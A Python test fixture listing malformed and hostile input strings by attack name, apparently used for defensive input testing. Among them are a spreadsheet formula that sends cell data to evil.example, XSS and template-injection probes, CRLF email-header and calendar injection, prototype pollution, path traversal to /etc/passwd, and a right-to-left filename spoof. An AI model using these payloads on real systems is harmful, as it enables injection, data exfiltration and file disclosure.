"""Texts that people type by mistake and attackers on purpose, by the name of the attack."""

from collections.abc import Mapping

TEXTS: Mapping[str, str] = {
    "null": "a\0b",
    "controls": "a\x01\x08\x0b\x1b[31mb\x7f\x85",
    "right to left": "invoice\u202egpj.exe\u2066x",
    "zero width": "Lime\u200b\u200c\u200d\ufeff\u2060wood",
    "only invisible": "\u200b\u2060\ufeff",
    "combining flood": "Z" + "\u0301\u0489" * 90,
    "four bytes": "\U0001f9d1\u200d\U0001f384 \U00020bb7\U0010fffd",
    "no characters": "a\ufffe\uffff\U0001ffffb",
    "line separators": "a\u2028b\u2029c\u0085d",
    "mail header": "Stall\r\nBcc: everybody@example.com\r\n\r\nHello",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "calendar": "Stall\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Free beer",
    "template": "{{ 7*7 }}{% debug %}{name}{merchant.__class__}%(x)s%s${7*7}",
    "script": "</script></title></textarea><script>alert(1)</script>",
    "attribute": "\" autofocus onfocus=alert(1) x='` onmouseover=alert(1) ",
    "json": '{"__proto__": {"x": 1}, "S": "x"}',
    "path": "../../../../etc/passwd\\..\\..",
    "spaces": " \t\r\n ",
    "long": "x" * 100_000,
    "long words": "\U0001f384" * 3_000,
    "digits of others": "\u0661\u0662,\u0663",
    "not a number": "NaN",
    "infinite": "1e999999",
    "minus nothing": "-0",
}
